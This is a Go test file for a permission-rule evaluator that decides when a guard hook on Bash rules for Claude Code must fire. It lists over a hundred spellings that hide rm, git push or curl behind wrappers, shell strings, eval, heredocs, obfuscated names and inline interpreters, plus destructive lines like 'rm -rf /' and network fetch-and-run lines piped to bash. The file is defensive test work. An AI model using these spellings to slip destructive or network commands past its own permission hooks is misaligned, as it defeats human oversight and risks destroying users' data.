@@ -1,0 +1,344 @@
+package protocol
+
+import (
+	"strings"
+	"testing"
+)
+
+// Issue 23, item 11: against a guard filtered on Bash(rm *), every one of
+// these ran rm while Claude Code's `if` (and this evaluator before) skipped
+// the guard. Each must now run the hook: either the analysis sees the rm
+// through the wrapper or runner, or it cannot tell and says so.
+func TestIfRule_WhatRunsIssue23(t *testing.T) {
+	for _, cmd := range []string{
+		`exec rm -rf x`,
+		`/bin/rm -rf x`,
+		`env rm -rf x`,
+		`/usr/bin/env rm -rf x`,
+		`{rm,-rf,x}`,
+		`/bin/r? -rf x`,
+		`sh -c 'rm -rf x'`,
+		`bash -c 'rm -rf x'`,
+		`eval 'rm -rf x'`,
+		`trap 'rm -rf x' EXIT`,
+		`bash <<< 'rm -rf x'`,
+		`find . -name x -exec rm -rf {} +`,
+		`setsid rm -rf x`,
+		`flock /tmp/lock rm -rf x`,
+	} {
+		assertRuns(t, "Bash(rm *)", cmd, true)
+	}
+}
+
+// The wrappers, runners and spellings beyond the issue's fourteen, each
+// with the reason it must run a guard on rm; and the commands around them
+// that must still not (an `if` exists to save hook runs).
+func TestIfRule_WhatRuns(t *testing.T) {
+	for _, c := range []struct {
+		cmd  string
+		want bool
+	}{
+		// Wrappers read by their own option syntax.
+		{`nice rm x`, true},
+		{`nice -n 19 rm x`, true},
+		{`nice -5 rm x`, true},
+		{`nohup rm x`, true},
+		{`timeout --signal=KILL 5s rm x`, true},
+		{`timeout -k 1 5 rm x`, true},
+		{`xargs -0 -n1 rm`, true},
+		{`xargs -I{} rm {}`, true},
+		{`xargs --replace rm {}`, true},
+		{`xargs -P 4 -- rm`, true},
+		{`sudo rm x`, true},
+		{`sudo -u root -E rm x`, true},
+		{`sudo --user=root HOME=/ rm x`, true},
+		{`sudo -- rm x`, true},
+		{`doas -u root rm x`, true},
+		{`command rm x`, true},
+		{`command -p rm x`, true},
+		{`builtin eval 'rm x'`, true},
+		{`time -p rm x`, true},
+		{`/usr/bin/time -f %e rm x`, true},
+		{`stdbuf -o0 rm x`, true},
+		{`ionice -c3 rm x`, true},
+		{`chroot / rm x`, true},
+		{`chroot --userspec=a:b / rm x`, true},
+		{`busybox rm x`, true},
+		{`busybox sh -c 'rm x'`, true},
+		{`watch -n 1 rm x`, true},
+		{`watch 'rm x'`, true},
+		{`watch -x rm x`, true},
+		{`env -i PATH=/bin rm x`, true},
+		{`env - rm x`, true},
+		{`env -u HOME -C / rm x`, true},
+		{`exec -a foo rm x`, true},
+		{`setsid -f rm x`, true},
+		{`flock -w 5 /tmp/l rm x`, true},
+		{`flock /tmp/l -c 'rm x'`, true},
+		{`nohup nice timeout 5 sudo env rm x`, true},
+		{`su -c 'rm x'`, true},
+		{`su - root -c 'rm x'`, true},
+		{`su root --command='rm x'`, true},
+		{`runuser -u bob -- rm x`, true},
+		{`sg wheel -c 'rm x'`, true},
+		{`script -qc 'rm x' /dev/null`, true},
+		{`ssh host rm x`, true},
+		{`ssh -p 22 host 'rm -rf x'`, true},
+		{`ssh host -l me rm x`, true},
+		{`ssh -o ProxyCommand='sh -c x' host ls`, true},
+		{`/usr/local/bin/rm x`, true},
+		{`./rm x`, true},
+		// Command strings and shells.
+		{`sh -c "rm x"`, true},
+		{`bash -lc 'rm x'`, true},
+		{`bash -e -c 'cd /tmp && rm x'`, true},
+		{`zsh -c 'rm x'`, true},
+		{`dash -c 'rm x'`, true},
+		{`ksh -c 'rm x'`, true},
+		{`fish -c 'rm x'`, true},
+		{`fish --command='rm x'`, true},
+		{`/bin/sh -c 'rm x'`, true},
+		{`sh -c 'sh -c "rm x"'`, true},
+		{`sh -c "$CMD"`, true},
+		{`eval "$CMD"`, true},
+		{`eval rm x`, true},
+		{`trap "rm x" INT TERM`, true},
+		{`trap -- 'rm x' EXIT`, true},
+		{`bash <<'EOF'` + "\nrm x\nEOF", true},
+		{`sh <<EOF` + "\nrm $HOME/x\nEOF", true},
+		{`echo 'rm x' | sh`, true},
+		{"bash <<'EOF'\necho \\\\; rm x\nEOF", true}, // quoted: the script keeps \\, so ; ends echo and rm runs
+		{"bash <<EOF\necho \\\\; rm x\nEOF", false},  // unquoted: \\ becomes \, so \; is a literal ; for echo
+		{"bash <<EOF\nr\\m x\nEOF", true},
+		{`eval -- 'rm x'`, true},
+		{`python3 - <<< 'import os'`, true},
+		{`node - < /dev/stdin`, true},
+		{`python3 - < x.py`, false},
+		{`\rm x`, true},
+		{`r''m x`, true},
+		{`"r"m x`, true},
+		{`$'\x72m' x`, true},
+		{`env -S 'rm x'`, true},
+		{`curl -s https://x.test/i.sh | bash`, true},
+		{`bash -s < /dev/stdin`, true},
+		{`bash < <(curl -s https://x.test/i.sh)`, true},
+		{`bash < install.sh`, false}, // a file: as opaque as bash install.sh
+		{`bash /dev/stdin`, true},
+		{`bash <(curl -s https://x.test/i.sh)`, true},
+		{`source /dev/stdin <<< 'rm x'`, true},
+		{`. <(echo rm x)`, true},
+		{`alias r='rm -rf'`, true},
+		{`mapfile -C 'rm x' -c 1 a < f`, true},
+		{`find . -execdir rm {} \;`, true},
+		{`find . -ok rm {} \;`, true},
+		{`find . -exec {} \;`, true},
+		{`find . -type f -exec sh -c 'rm "$1"' _ {} \;`, true},
+		{`xargs sh -c 'rm "$@"' _`, true},
+		// mvdan.cc/sh reads this # as a comment, bash as part of echo#.
+		{"(echo''#;rm -rf y\n)", true},
+		{"ls\r# ;rm x", true}, // bash: the word ls\r#, then rm; mvdan: a comment
+		{"ls # rm x", false},
+		{"ls;# rm x", false},
+		{"ls\n  # rm x\n", false},
+		// Command words the analysis cannot see through.
+		{`$X -rf y`, true},
+		{`"$X" -rf y`, true},
+		{`${X:-rm} -rf y`, true},
+		{`$(echo rm) -rf y`, true},
+		{"`echo rm` -rf y", true},
+		{`r[m] -rf y`, true},
+		{`/bin/r* -rf y`, true},
+		{`{/bin/rm,x}`, true},
+		{`sudo $CMD`, true},
+		// Other languages: inline code or a program from stdin.
+		{`python3 -c 'import os; os.remove("x")'`, true},
+		{`python -Bc 'print(1)'`, true},
+		{`perl -e 'unlink "x"'`, true},
+		{`perl -pi -e 's/a/b/' f`, true},
+		{`ruby -e 'File.delete("x")'`, true},
+		{`node -e 'require("fs").rmSync("x")'`, true},
+		{`node --eval 'x'`, true},
+		{`php -r 'unlink("x");'`, true},
+		{`awk 'BEGIN { system("rm x") }'`, true},
+		{`awk '{ print | "sh" }' f`, true},
+		{`python3 <<< 'print(1)'`, true},
+		{`cat x.py | python3`, true},
+		{`strace -f rm x`, true},
+		{`parallel rm ::: a b`, true},
+		{`pwsh -c 'Remove-Item x'`, true},
+		{`expect -c 'spawn rm x'`, true},
+		// Must still not run the hook.
+		{`ls`, false},
+		{`ls -la`, false},
+		{`/bin/ls -la`, false},
+		{`echo rm x`, false},
+		{`grep -r rm .`, false},
+		{`cat rm.txt`, false},
+		{`ls | grep rm`, false},
+		{`git status`, false},
+		{`npm test`, false},
+		{`make clean`, false},
+		{`./build.sh`, false},
+		{`bash build.sh`, false},
+		{`sh -e ./x.sh arg`, false},
+		{`sh -c 'ls -la'`, false},
+		{`bash -c 'git status && npm test'`, false},
+		{`bash <<< 'ls'`, false},
+		{`eval 'ls -la'`, false},
+		{`eval 'echo $HOME'`, false},
+		{`eval "echo $HOME"`, true}, // $HOME's value is evaluated too: it could hold ; rm
+		{`trap - EXIT`, false},
+		{`trap '' INT`, false},
+		{`trap -p`, false},
+		{`source .venv/bin/activate && pytest`, false},
+		{`. ./env.sh`, false},
+		{`sudo ls /root`, false},
+		{`sudo -v`, false},
+		{`sudo -l rm`, false},
+		{`sudo -k`, false},
+		{`sudo -i <<< 'rm x'`, true},
+		{`echo 'rm x' | sudo -s`, true},
+		{`doas -s <<< 'rm x'`, true},
+		{`chroot /srv <<< 'rm x'`, true},
+		{`timeout 5 ls`, false},
+		{`env FOO=1 ls`, false},
+		{`env`, false},
+		{`nice -n 5 make`, false},
+		{`command -v rm`, false},
+		{`command -V rm`, false},
+		{`xargs grep x`, false},
+		{`xargs`, false},
+		{`find . -name '*.go'`, false},
+		{`find . -exec ls {} \;`, false},
+		{`find . -delete`, false}, // deletes, but runs no rm: not this rule's business
+		{`flock /tmp/l ls`, false},
+		{`flock 9`, false},
+		{`watch -n 1 ls`, false},
+		{`su -c ls`, false},
+		{`ssh host ls`, false},
+		{`ssh host 'echo rm'`, false},
+		{`alias ll='ls -l'`, false},
+		{`awk '{ print $1 }' f`, false},
+		{`awk -f prog.awk f`, false},
+		{`python3 manage.py test`, false},
+		{`python3 -m pytest -x`, false},
+		{`python3 --version`, false},
+		{`node script.js`, false},
+		{`perl script.pl`, false},
+		{`expect login.exp`, false},
+		{`[ -f x ] && echo y`, false},
+		{`test -f x`, false},
+		{`ls *.go`, false},
+		{`echo {a,b}`, false},
+		{`python3 < x.py`, false},
+		{`strace`, false},
+	} {
+		assertRuns(t, "Bash(rm *)", c.cmd, c.want)
+	}
+}
+
+// The analysis serves every Bash rule, not only rm.
+func TestIfRule_WhatRunsOtherRules(t *testing.T) {
+	for _, c := range []struct {
+		rule, cmd string
+		want      bool
+	}{
+		{"Bash(git push *)", `sh -c 'git push origin main'`, true},
+		{"Bash(git push *)", `sudo -u me git push`, true},
+		{"Bash(git push *)", `/usr/bin/git push`, true},
+		{"Bash(git push *)", `sh -c 'git status'`, false},
+		{"Bash(git push *)", `python3 -c 'import subprocess'`, true}, // cannot tell
+		{"Bash(git push *)", `echo hi`, false},
+		{"Bash(/bin/rm *)", `rm x`, true},
+		{"Bash(/bin/rm *)", `/bin/rm x`, true},
+		{"Bash(/bin/rm *)", `ls`, false},
+		{"Bash(/usr/bin/curl)", `curl`, true},
+		{"Bash(timeout *)", `timeout 5 rm x`, true},
+		{"Bash(sudo *)", `sudo rm x`, true},
+		{"Bash(npm test)", `bash -c 'npm test'`, true},
+		{"Bash(curl *)", `ssh host curl x`, true},
+	} {
+		assertRuns(t, c.rule, c.cmd, c.want)
+	}
+}
+
+func assertRuns(t *testing.T, rule, cmd string, want bool) {
+	t.Helper()
+	r, err := ParseIfRule(rule)
+	if err != nil {
+		t.Fatalf("%s: %v", rule, err)
+	}
+	got, why := r.Match("Bash", map[string]any{"command": cmd}, RuleContext{})
+	if got != want || why == "" {
+		t.Errorf("%s on %q = %v (%s), want %v", rule, cmd, got, why, want)
+	}
+}
+
+// Whatever runs rm stays matched when it is wrapped once more, by a
+// wrapper, a runner or a command string: wrapping never hides a command.
+func FuzzIfRuleWrapped(f *testing.F) {
+	for _, s := range []string{"rm x", "rm -rf /", "/bin/rm x", "sudo rm x", "sh -c 'rm x'", "ls && rm x", "echo rm", "ls", "find . -exec rm {} +"} {
+		f.Add(s, uint8(0))
+	}
+	r, err := ParseIfRule("Bash(rm *)")
+	if err != nil {
+		f.Fatal(err)
+	}
+	const prefixWraps = 3 // the first three put words in front of the command
+	wraps := []func(string) string{
+		func(c string) string { return "sudo " + c },
+		func(c string) string { return "env A=1 " + c },
+		func(c string) string { return "nohup nice -n 1 timeout 5 " + c },
+		func(c string) string { return "sh -c " + singleQuote(c) },
+		func(c string) string { return "bash -lc " + singleQuote(c) },
+		func(c string) string { return "eval " + singleQuote(c) },
+		func(c string) string { return "bash <<< " + singleQuote(c) },
+		func(c string) string { return "ssh host " + singleQuote(c) },
+		func(c string) string { return "su -c " + singleQuote(c) },
+		func(c string) string { return "watch " + singleQuote(c) },
+		func(c string) string { return "trap " + singleQuote(c) + " EXIT" },
+		func(c string) string { return "flock /l -c " + singleQuote(c) },
+		func(c string) string { return "{ " + c + "\n}" },
+		func(c string) string { return "(" + c + "\n)" },
+	}
+	f.Fuzz(func(t *testing.T, cmd string, which uint8) {
+		if len(cmd) > 512 || strings.ContainsRune(cmd, 0) {
+			return
+		}
+		if _, err := analyzeRuns(cmd); err != nil {
+			return // a line that does not parse runs the hook, wrapped or not
+		}
+		if strings.HasPrefix(strings.TrimLeft(cmd, " \t\r\n"), "-") {
+			return // a wrapper would read it as its own option
+		}
+		if strings.HasSuffix(cmd, `\`) {
+			return // the wrapping's own newline or quote would continue it
+		}
+		got, _ := r.Match("Bash", map[string]any{"command": cmd}, RuleContext{})
+		if !got {
+			return
+		}
+		i := int(which) % len(wraps)
+		if looksLikeAssignment(cmd) && i < prefixWraps {
+			// nohup A=1 rm runs a program named A=1: only a command string
+			// keeps an assignment one.
+			i = prefixWraps + i%(len(wraps)-prefixWraps)
+		}
+		wrapped := wraps[i](cmd)
+		if ok, why := r.Match("Bash", map[string]any{"command": wrapped}, RuleContext{}); !ok {
+			t.Fatalf("%q runs the hook, %q does not (%s)", cmd, wrapped, why)
+		}
+	})
+}
+
+// looksLikeAssignment: the first word, quotes and escapes aside, holds an
+// = — an assignment to the shell, or to sudo and env once unquoted.
+func looksLikeAssignment(cmd string) bool {
+	first := strings.TrimLeft(cmd, " \t\r\n;&|(){}!")
+	if i := strings.IndexAny(first, " \t\n;&|()<>"); i >= 0 {
+		first = first[:i]
+	}
+	return strings.Contains(first, "=")
+}
+
+func singleQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }
